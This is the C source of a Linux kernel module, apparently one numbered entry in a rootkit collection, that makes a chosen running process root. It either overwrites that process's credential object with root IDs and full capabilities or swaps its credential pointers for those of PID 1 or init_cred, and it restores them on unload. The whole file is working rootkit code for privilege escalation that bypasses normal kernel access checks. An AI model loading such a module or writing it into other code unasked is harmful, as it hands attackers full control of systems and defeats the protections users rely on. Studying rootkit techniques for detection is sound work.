// SPDX-License-Identifier: GPL-2.0
/*
 * 26. Give a running process (pid=N) root behind the kernel's back: write
 * root's IDs and full capabilities into its own credential object
 * (how=write), or point its credentials at another task's: PID 1's
 * (how=swap) or the idle task's init_cred (how=init). Either way
 * /proc/N/status says uid 0 at once. Put back on unload; the process must
 * outlive the module.
 */
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/rcupdate.h>
#include "rk_common.h"

static int pid;
module_param(pid, int, 0444);
static char *how = "write";
module_param(how, charp, 0444);

static struct task_struct *task;
static const struct cred *old_cred, *old_real;
static struct cred saved;

static struct task_struct *find(int nr)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(nr), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	return t;
}

static int __init rk_init(void)
{
	const struct cred *other = NULL;
	struct task_struct *init;

	task = find(pid);
	if (!task)
		return -ESRCH;
	old_cred = task->cred;
	old_real = task->real_cred;
	if (!strcmp(how, "write")) {
		struct cred *c = (struct cred *)old_real;

		saved = *c;
		c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
		c->gid = c->egid = c->sgid = c->fsgid = GLOBAL_ROOT_GID;
		c->cap_effective = c->cap_permitted = CAP_FULL_SET;
	} else if (!strcmp(how, "swap")) {
		init = find(1);
		if (!init)
			goto fail;
		other = get_cred(init->real_cred);
		put_task_struct(init);
	} else if (!strcmp(how, "init")) {
		other = (const struct cred *)rk_lookup("init_cred");
		if (!other)
			goto fail;
		get_cred(other);
	} else {
		goto fail;
	}
	if (other) {
		rcu_assign_pointer(task->real_cred, other);
		rcu_assign_pointer(task->cred, get_cred(other));
	}
	pr_info("rk_cred: pid %d (%s) made root (%s)\n", pid, task->comm, how);
	return 0;
fail:
	put_task_struct(task);
	return -EINVAL;
}

static void __exit rk_exit(void)
{
	if (!strcmp(how, "write")) {
		struct cred *c = (struct cred *)old_real;

		c->uid = saved.uid; c->euid = saved.euid;
		c->suid = saved.suid; c->fsuid = saved.fsuid;
		c->gid = saved.gid; c->egid = saved.egid;
		c->sgid = saved.sgid; c->fsgid = saved.fsgid;
		c->cap_effective = saved.cap_effective;
		c->cap_permitted = saved.cap_permitted;
	} else {
		const struct cred *real = task->real_cred, *cur = task->cred;

		rcu_assign_pointer(task->real_cred, old_real);
		rcu_assign_pointer(task->cred, old_cred);
		synchronize_rcu();
		put_cred(real);
		put_cred(cur);
	}
	put_task_struct(task);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
